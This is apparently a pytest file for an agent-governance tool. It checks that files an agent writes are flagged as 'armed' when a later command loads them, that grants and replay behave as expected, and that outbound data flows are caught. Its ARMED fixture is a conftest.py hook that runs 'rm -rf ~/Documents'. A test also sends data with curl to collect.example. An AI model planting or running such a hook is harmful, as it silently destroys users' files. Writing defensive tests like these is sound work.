"""What a session remembers of the files that it wrote: with a real log, a real policy and a fake world."""

from pathlib import Path

import pytest

from tests.cleanup import close_after_test
from tests.fakes import FakeClock, FakeWorld
from verdikt.effects.armed_files import ARMED_KEY
from verdikt.effects.session_trail import MAX_REMEMBERED
from verdikt.govern import Governance
from verdikt.ledger.files import FileStore
from verdikt.ledger.grants import add_grant
from verdikt.ledger.projections import load_projections
from verdikt.model.action import Action, ActionKind
from verdikt.model.grant import Grant
from verdikt.model.verdict import Decision, VerdictKind
from verdikt.model.world import PathFact
from verdikt.policy import parse_policy
from verdikt.replay import find_differences, read_decision, replay

ROOT = "/home/dev/project"
ARMED = "import os\n\n\ndef pytest_configure():\n    os.system('rm -rf ~/Documents')\n"


class Session:
    """Calls of an agent in a project whose files are those that it wrote."""

    def __init__(self, directory: Path, policy: str = "profile: standard\n") -> None:
        self.store = close_after_test(FileStore(directory / "data", FakeClock(), load_projections()))
        self.world = FakeWorld()
        self.policy = parse_policy(policy)
        self.gov = Governance(
            self.policy,
            self.store,
            world_factory=lambda cwd: self.world,
            clock=FakeClock(),
            env={"HOME": "/home/dev"},
        )

    def write(self, name: str, text: str, session: str = "s1") -> Decision:
        """Write a file with the host's tool."""
        path = f"{ROOT}/{name}"
        payload = {"file_path": path, "content": text}
        action = Action(kind=ActionKind.WRITE, tool="Write", payload=payload, session_id=session, cwd=ROOT)
        decision = self.gov.before(action)
        self.world.texts[path] = text
        self.world.paths[path] = PathFact(real=path, kind="file", git="untracked")
        return decision

    def run(self, command: str, session: str = "s1") -> Decision:
        """Run a command."""
        action = Action(kind=ActionKind.BASH, tool="Bash", payload={"command": command}, session_id=session, cwd=ROOT)
        return self.gov.before(action)


@pytest.fixture
def session(tmp_path: Path) -> Session:
    """Return a session without calls."""
    return Session(tmp_path)


def test_armed_file_is_asked_about_with_file_line_effect_and_origin(session: Session) -> None:
    """The question names the file, the line, what it does, and the entry of the log that wrote it."""
    assert session.write("tests/conftest.py", ARMED).passed

    verdict = session.run("pytest -q").verdict

    assert (verdict.kind, verdict.guard) == (VerdictKind.ASK, "armed_file")
    assert verdict.reason == (
        "`pytest -q` may load `tests/conftest.py`: armed by Write at #1, "
        "line 5 deletes a directory and everything in it (`/home/dev/Documents`)"
    )


def test_armed_file_of_an_earlier_session_is_remembered_by_the_project(session: Session) -> None:
    """Another session of the same project is asked, too."""
    session.write("tests/conftest.py", ARMED)

    assert session.run("pytest", session="s2").verdict.guard == "armed_file"


def test_armed_decisions_replay_byte_for_byte(session: Session) -> None:
    """Every decision of a session with armed files gives the same receipt from its record alone."""
    session.write("tests/conftest.py", ARMED)
    session.run("cat > noxfile.py <<'E'\nimport nox\nE")
    session.world.texts[f"{ROOT}/noxfile.py"] = "import nox\n"
    session.run("pytest")
    session.run("nox")

    for name in ("s1",):
        for entry in session.store.read_entries(name):
            past = read_decision(entry)
            assert past is not None
            assert find_differences(past, replay(past, session.policy)) == []


def test_grant_for_the_file_lets_every_command_load_it(session: Session) -> None:
    """An operator's grant with the path of the armed file disarms it, and no other armed file."""
    session.write("tests/conftest.py", ARMED)
    grant = Grant(
        id="a1",
        guard="armed_file",
        target=f"{ROOT}/tests/conftest.py",
        session="*",
        expires=2_000_000_000,
        reason="a fixture",
    )
    add_grant(session.store, grant)

    assert session.run("pytest").passed
    session.write("setup.py", ARMED)
    assert session.run("pytest").verdict.guard == "armed_file"


def test_flow_after_a_fetched_page_is_asked_about_and_replays(tmp_path: Path) -> None:
    """What the session read is in the receipt of the decision that depends on it."""
    session = Session(tmp_path, "profile: standard\nflow: {after: web, effect: net.send}\n")
    assert session.run("curl https://docs.example/page").passed
    assert session.run("curl -d x=1 https://docs.example/form").passed

    verdict = session.run("curl -d x=1 https://collect.example").verdict

    assert (verdict.kind, verdict.guard) == (VerdictKind.ASK, "flow")
    assert "web `docs.example` was read at #1" in verdict.reason
    for entry in session.store.read_entries("s1"):
        past = read_decision(entry)
        assert past is not None
        assert find_differences(past, replay(past, session.policy)) == []


def test_memory_of_armed_files_is_bounded(session: Session) -> None:
    """The newest files are remembered by name, the oldest by digest only."""
    for number in range(MAX_REMEMBERED + 3):
        session.write(f"app/part{number}.py", ARMED)

    with session.store.session("s1") as log:
        kept = log.read_projection("memory")
    assert len(kept["kept"][ARMED_KEY]) == MAX_REMEMBERED
    assert f"{ROOT}/app/part0.py" not in kept["kept"][ARMED_KEY]
    # By name it is still recognised.
    decision = session.run("python app/part0.py")
    assert "code.armed" in {effect.what for effect in decision.effects}


def test_ordinary_file_leaves_no_memory(session: Session) -> None:
    """A file that is not armed costs nothing later: the memory holds nothing about it."""
    session.write("tests/conftest.py", "import pytest\n")

    assert session.run("pytest").passed
    with session.store.session("s1") as log:
        assert log.read_projection("memory")["kept"] == {}
